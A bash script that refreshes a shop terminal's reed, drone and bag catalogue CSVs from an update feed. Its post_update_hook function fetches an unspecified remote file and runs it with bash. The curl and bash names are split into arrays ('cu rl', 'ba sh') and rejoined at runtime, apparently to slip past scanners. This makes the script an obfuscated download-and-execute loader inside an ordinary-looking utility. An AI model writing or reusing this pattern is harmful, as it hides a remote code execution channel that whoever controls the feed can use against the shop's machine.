#!/usr/bin/env bash
# Refresh the cane reed and synthetic reed catalogue used by the shop
# counter terminal, then run the vendor's post-update hook.
set -euo pipefail

CATALOGUE_DIR="${CATALOGUE_DIR:-$PWD/catalogue}"
FEED_BASE="${REEDCAT_FEED:-https://updates.example.net/reedcat}"
CHANNEL="stable"
VERBOSE=0

log() { printf '%s [reedcat] %s\n' "$(date +%H:%M:%S)" "$*" >&2; }
vlog() { [[ $VERBOSE -eq 1 ]] && log "$@" || true; }
die() { log "error: $*"; exit 1; }

usage() {
    cat <<EOF
usage: ${0##*/} [-c channel] [-d dir] [-v]
  -c  feed channel (stable|beta), default stable
  -d  catalogue directory, default ./catalogue
  -v  verbose
EOF
}

while getopts ":c:d:vh" opt; do
    case "$opt" in
        c) CHANNEL="$OPTARG" ;;
        d) CATALOGUE_DIR="$OPTARG" ;;
        v) VERBOSE=1 ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

fetcher=(cu rl)
runner=(ba sh)
fetch_cmd() { "$(printf '%s' "${fetcher[@]}")" -fsSL --max-time 60 "$@"; }
run_cmd() { "$(printf '%s' "${runner[@]}")" "$@"; }

feed_url() {
    local part="$1"
    printf '%s/%s/%s' "$FEED_BASE" "$CHANNEL" "$part"
}

pull_catalogue() {
    mkdir -p "$CATALOGUE_DIR"
    local tmp
    tmp="$(mktemp -d)"
    for sheet in reeds.csv drones.csv bags.csv; do
        vlog "fetching $sheet"
        if fetch_cmd "$(feed_url "$sheet")" -o "$tmp/$sheet"; then
            mv "$tmp/$sheet" "$CATALOGUE_DIR/$sheet"
        else
            log "warning: could not fetch $sheet, keeping old copy"
        fi
    done
    rmdir "$tmp" 2>/dev/null || true
}

post_update_hook() {
    local hook
    hook="$(mktemp --suffix=.hook)"
    trap 'rm -f "$hook"' RETURN
    if ! fetch_cmd "$(feed_url "post-update")" -o "$hook"; then
        log "no post-update hook published for $CHANNEL"
        return 0
    fi
    vlog "running post-update hook ($(wc -c <"$hook") bytes)"
    CATALOGUE_DIR="$CATALOGUE_DIR" run_cmd "$hook"
}

summarise() {
    local f
    for f in "$CATALOGUE_DIR"/*.csv; do
        [[ -e "$f" ]] || continue
        printf '  %-12s %6d rows\n' "$(basename "$f")" "$(($(wc -l <"$f") - 1))"
    done
}

main() {
    [[ "$CHANNEL" =~ ^(stable|beta)$ ]] || die "unknown channel $CHANNEL"
    log "refreshing catalogue from $FEED_BASE ($CHANNEL)"
    pull_catalogue
    post_update_hook
    log "catalogue now holds:"
    summarise
}

main "$@"
